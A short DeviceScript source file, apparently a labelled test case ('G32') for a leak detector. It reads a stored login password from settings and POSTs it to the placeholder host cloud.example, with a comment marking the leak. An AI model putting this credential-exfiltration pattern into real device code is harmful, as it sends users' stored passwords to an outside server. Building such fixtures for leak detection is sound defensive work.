// G32: sends the password of a login that is stored as an object.
import { fetch } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

paired(async () => {
  const login: any = await readSetting("login", {});
  if (!login.password) return;
  const body: string = login.password;
  const response = await fetch("https://cloud.example/g32", { method: "POST", body }); // leak: settings.login
  await response.close();
});
